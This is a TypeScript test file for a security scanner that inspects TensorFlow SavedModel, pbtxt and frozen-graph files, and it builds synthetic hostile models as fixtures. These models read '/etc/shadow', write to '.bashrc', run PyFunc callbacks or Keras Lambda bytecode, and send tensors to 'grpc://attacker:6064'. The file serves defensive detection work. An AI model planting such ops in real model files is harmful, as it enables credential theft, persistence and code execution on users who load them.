import { describe, expect, it } from 'vitest';
import { KERAS_RULES } from '../../../../analyzers/keras/rules.js';
import { TENSORFLOW_RULES as RULES } from '../../../../analyzers/tensorflow/rules.js';
import { tensorflowAnalyzer } from '../../../../analyzers/tensorflow/analyzer.js';
import { CountingSource, VirtualFileSource } from '../../../support/sources.js';
import { bytes, concat, lyingLength, message, varint } from '../protobuf/proto-writer.js';
import { ruleIds, scanBytes } from '../protobuf/scan-file.js';
import { DENSE_METADATA, kerasMetadataFile, nodeDef, savedModel, tf1SavedModel, tf2SavedModel, type NodeSpec } from './saved-model-builder.js';

const scan = (data: Uint8Array) => scanBytes('saved_model.pb', data);
const inSignature = (...nodes: NodeSpec[]) => tf2SavedModel({ functions: [{ name: '__inference_serve_9', nodes }] });
const LAMBDA_METADATA = JSON.stringify({
  class_name: 'Lambda',
  name: 'lambda',
  config: { name: 'lambda', function: { class_name: '__tuple__', items: ['4wEAAAAAAAAAAAAAAAEAAAACAAAAQwAAAHMIAAAAfABkARQAUwApAk7pAgAAAKkAKQHaAXhyAgAAAHICAAAA+gg8c3RkaW4+2gg8bGFtYmRhPgEAAABzAgAAAAgA', null, null] }, function_type: 'lambda', module: '__main__' },
});

/** A Sequential model's `keras_metadata.pb`: the model node, then `layer` as its second node. */
const kerasModelMetadata = (layer: string) =>
  kerasMetadataFile([
    { path: 'root', identifier: '_tf_keras_sequential', json: JSON.stringify({ class_name: 'Sequential', name: 'sequential', config: { name: 'sequential', layers: [] } }) },
    { path: 'root.layer-1', identifier: '_tf_keras_layer', json: layer },
  ]);

describe('tensorflowAnalyzer', () => {
  it.each([
    ['a TF2 Keras SavedModel (saver functions with SaveV2, MergeV2Checkpoints, RestoreV2)', tf2SavedModel()],
    ['a TF1 SavedModel (saver under save/)', tf1SavedModel()],
    ['a logging PrintV2', inSignature({ name: 'print', op: 'PrintV2', strings: { output_stream: 'stderr' } })],
    ['two meta graphs', savedModel({ nodes: [{ name: 'a', op: 'Relu' }], tags: ['serve'] }, { nodes: [{ name: 'b', op: 'Relu' }], tags: ['train'] })],
  ])('should report nothing through the full engine when the SavedModel is %s', async (_, data) => {
    const outcome = await scan(data);
    expect(outcome.format).toBe('protobuf');
    expect(outcome.findings).toEqual([]);
  });

  const hostile: Array<[string, string, Uint8Array]> = [
    [RULES.fileReadOp.id, 'ReadFile in a signature function', inSignature({ name: 'read', op: 'ReadFile' })],
    [RULES.fileReadOp.id, 'ImmutableConst naming a file', inSignature({ name: 'mmap', op: 'ImmutableConst', strings: { memory_region_name: '/etc/shadow' } })],
    [RULES.fileReadOp.id, 'MatchingFiles in the graph', tf2SavedModel({ nodes: [{ name: 'ls', op: 'MatchingFiles' }] })],
    [RULES.fileReadOp.id, 'a vocabulary file table', inSignature({ name: 'table', op: 'InitializeTableFromTextFileV2' })],
    [RULES.fileWriteOp.id, 'WriteFile in the graph', tf1SavedModel([{ name: 'write', op: 'WriteFile' }])],
    [RULES.fileWriteOp.id, 'PrintV2 into a file', inSignature({ name: 'print', op: 'PrintV2', strings: { output_stream: 'file:///home/user/.bashrc' } })],
    [RULES.fileWriteOp.id, 'a dataset written to disk', inSignature({ name: 'save', op: 'DatasetToTFRecord' })],
    [RULES.pythonCallbackOp.id, 'PyFunc', inSignature({ name: 'py', op: 'PyFunc', strings: { token: 'pyfunc_0' } })],
    [RULES.pythonCallbackOp.id, 'EagerPyFunc', inSignature({ name: 'py', op: 'EagerPyFunc' })],
    [RULES.networkOp.id, 'a debug op sending tensors over gRPC', inSignature({ name: 'dbg', op: 'DebugIdentityV3', stringLists: { debug_urls: ['grpc://attacker:6064'] } })],
    [RULES.networkOp.id, 'an RPC client', inSignature({ name: 'rpc', op: 'RpcClient' })],
    [RULES.checkpointOpOutsideSaver.id, 'SaveV2 in a signature function', inSignature({ name: 'SaveV2', op: 'SaveV2' })],
    [RULES.checkpointOpOutsideSaver.id, 'RestoreV2 at the top of a TF1 graph', tf1SavedModel([{ name: 'restore_evil', op: 'RestoreV2' }])],
    [RULES.checkpointOpOutsideSaver.id, 'SaveV2 when the model has no saver', savedModel({ nodes: [{ name: 'save/SaveV2', op: 'SaveV2' }] })],
    [KERAS_RULES.lambdaBytecode.id, 'a Keras Lambda layer in the object graph', tf2SavedModel({ kerasMetadata: [LAMBDA_METADATA] })],
    [KERAS_RULES.lambdaBytecode.id, 'a Keras Lambda layer in keras_metadata.pb', kerasModelMetadata(LAMBDA_METADATA)],
    // Cut after the sniffed head: a shorter file cut short is no protobuf at all (protobuf/model-kind.ts).
    [RULES.malformed.id, 'a truncated graph', tf2SavedModel({ kerasMetadata: Array.from({ length: 40 }, () => DENSE_METADATA) }).subarray(0, 6000)],
    [RULES.malformed.id, 'a node overrunning its graph', concat(varint(1, 1), bytes(2, concat(message(1, bytes(4, 'serve')), message(2, lyingLength(1, 900, bytes(2, 'ReadFile'))))))],
  ];

  it('should report nothing for the keras_metadata.pb of an ordinary model, and place a finding by node path', async () => {
    expect(await scan(kerasModelMetadata(DENSE_METADATA))).toMatchObject({ format: 'protobuf', findings: [] });
    const { findings } = await scanBytes('keras_metadata.pb', kerasModelMetadata(LAMBDA_METADATA));
    expect(findings.map((f) => f.location)).toEqual([expect.stringContaining('root.layer-1')]);
  });

  it.each(hostile)('should report %s when the SavedModel has %s', async (rule, _, data) => {
    const { format, findings } = await scan(data);
    expect(format).toBe('protobuf');
    expect(ruleIds(findings)).toContain(rule);
  });

  it('should grade by op and quote the evidence when an op reaches outside the graph', async () => {
    const { findings } = await scan(
      inSignature(
        { name: 'print', op: 'PrintV2', strings: { output_stream: 'file:///tmp/out' } },
        { name: 'table', op: 'InitializeTableFromTextFile' },
        { name: 'restore', op: 'RestoreV2' },
      ),
    );
    expect(findings.map((f) => [f.ruleId, f.severity])).toEqual([
      [RULES.fileWriteOp.id, 'High'],
      [RULES.fileReadOp.id, 'Low'],
      [RULES.checkpointOpOutsideSaver.id, 'Medium'],
    ]);
    expect(findings[0]).toMatchObject({
      location: 'meta_graphs[0] library function __inference_serve_9 node print',
      details: expect.objectContaining({ op: 'PrintV2', attrs: { output_stream: ['file:///tmp/out'] } }),
    });
  });

  it('should not exempt a checkpoint op when a function only pretends to be the saver', async () => {
    // Named like TF's saver function but called by no saver node.
    const data = tf2SavedModel({ functions: [{ name: '__inference__traced_save_999', nodes: [{ name: 'SaveV2', op: 'SaveV2' }] }] });
    expect(ruleIds((await scan(data)).findings)).toEqual([RULES.checkpointOpOutsideSaver.id]);
  });

  it('should skip constant tensors unread when a SavedModel holds large ones', async () => {
    // A Const node whose 3 GiB tensor is the rest of the file: every enclosing message ends with it.
    const big = 3 * 1024 ** 3;
    const around = (field: number, head: Uint8Array) => lyingLength(field, head.length + big, head);
    const attr = around(5, concat(bytes(1, 'value'), around(2, lyingLength(8, big, new Uint8Array(0)))));
    const node = around(1, concat(bytes(1, 'big_const'), bytes(2, 'Const'), attr));
    const file = concat(varint(1, 1), around(2, concat(message(1, bytes(4, 'serve')), around(2, node))));
    const source = new CountingSource(new VirtualFileSource(file, file.length + big));
    const { findings } = await scanBytes('saved_model.pb', source, { analyzers: [tensorflowAnalyzer] });
    expect(findings).toEqual([]);
    expect(source.bytesRead).toBeLessThan(1024 * 1024);
  });
});

/** `saved_model.pbtxt` as `text_format.MessageToString` lays it out, with `body` in the graph. */
function savedModelText(body: string, extra = ''): Uint8Array {
  return new TextEncoder().encode(`saved_model_schema_version: 1
meta_graphs {
  meta_info_def {
    stripped_op_list {
      op {
        name: "Const"
        output_arg {
          name: "output"
          type_attr: "dtype"
        }
      }
    }
    tags: "serve"
    tensorflow_version: "2.15.0"
  }
  graph_def {
${body}
    versions {
      producer: 1645
    }
  }
  saver_def {
    filename_tensor_name: "save/Const:0"
    save_tensor_name: "save/control_dependency:0"
    restore_op_name: "save/restore_all"
    max_to_keep: 5
    version: V2
  }
${extra}
}
`);
}

const node = (name: string, op: string, attrs = '') => `    node {
      name: "${name}"
      op: "${op}"
      input: "x"
${attrs}
      attr {
        key: "dtype"
        value {
          type: DT_STRING
        }
      }
    }`;

describe('tensorflowAnalyzer on saved_model.pbtxt', () => {
  const scanText = (data: Uint8Array) => scanBytes('saved_model.pbtxt', data);

  it('should report nothing for a TF1 text SavedModel whose checkpoint ops sit under the saver', async () => {
    const { format, findings } = await scanText(savedModelText([node('save/Const', 'Const'), node('save/SaveV2', 'SaveV2'), node('save/RestoreV2', 'RestoreV2')].join('\n')));
    expect(format).toBe('text');
    expect(findings.filter((f) => f.analyzer === 'tensorflow' || f.analyzer === 'keras')).toEqual([]);
  });

  it.each([
    [RULES.fileReadOp.id, 'ReadFile in the graph', savedModelText(node('read', 'ReadFile'))],
    [RULES.fileWriteOp.id, 'PrintV2 into a file (an escaped string)', savedModelText(node('print', 'PrintV2', String.raw`      attr {
        key: "output_stream"
        value {
          s: "file:///home/user/.bashrc\n"
        }
      }`))],
    [RULES.pythonCallbackOp.id, 'PyFunc in a library function', savedModelText(`    library {
      function {
        signature {
          name: "__inference_serve_9"
        }
        node_def {
          name: "py"
          op: "PyFunc"
        }
      }
    }`)],
    [RULES.checkpointOpOutsideSaver.id, 'RestoreV2 outside the saver scope', savedModelText(node('restore_evil', 'RestoreV2'))],
    [KERAS_RULES.lambdaBytecode.id, 'a Keras Lambda layer in the object graph', savedModelText('', `  object_graph_def {
    nodes {
      user_object {
        identifier: "_tf_keras_layer"
        version {
          producer: 1
        }
        metadata: ${JSON.stringify(LAMBDA_METADATA)}
      }
    }
  }`)],
    [RULES.malformed.id, 'an unclosed message', savedModelText(node('read', 'Relu')).subarray(0, 200)],
  ])('should report %s when a text SavedModel has %s', async (rule, _, data) => {
    const { format, findings } = await scanText(data);
    expect(format).toBe('text');
    expect(ruleIds(findings)).toContain(rule);
  });

  it('should leave other text files to the other analyzers', async () => {
    const { findings } = await scanText(new TextEncoder().encode('# notes\nop: "ReadFile"\nnode { op: "PyFunc" }\n'));
    expect(findings.filter((f) => f.analyzer === 'tensorflow')).toEqual([]);
  });
});

describe('tensorflowAnalyzer on a frozen graph', () => {
  const frozen = (...nodes: NodeSpec[]) => concat(...nodes.map((n) => bytes(1, nodeDef(n))), message(4, varint(1, 1645)));

  it('should report nothing for an ordinary frozen graph', async () => {
    const { format, findings } = await scanBytes('frozen_graph.pb', frozen({ name: 'input', op: 'Placeholder' }, { name: 'w', op: 'Const', tensorBytes: 64 }, { name: 'mm', op: 'MatMul' }, { name: 'out', op: 'Relu' }));
    expect(format).toBe('protobuf');
    expect(findings).toEqual([]);
  });

  it.each([
    [RULES.fileReadOp.id, 'ReadFile', frozen({ name: 'input', op: 'Placeholder' }, { name: 'read', op: 'ReadFile' })],
    [RULES.pythonCallbackOp.id, 'PyFunc', frozen({ name: 'input', op: 'Placeholder' }, { name: 'py', op: 'PyFunc', strings: { token: 'pyfunc_0' } })],
    [RULES.checkpointOpOutsideSaver.id, 'RestoreV2 (a frozen graph has no saver)', frozen({ name: 'input', op: 'Placeholder' }, { name: 'restore', op: 'RestoreV2' })],
  ])('should report %s when a frozen graph has %s', async (rule, _, data) => {
    expect(ruleIds((await scanBytes('frozen_graph.pb', data)).findings)).toContain(rule);
  });
});

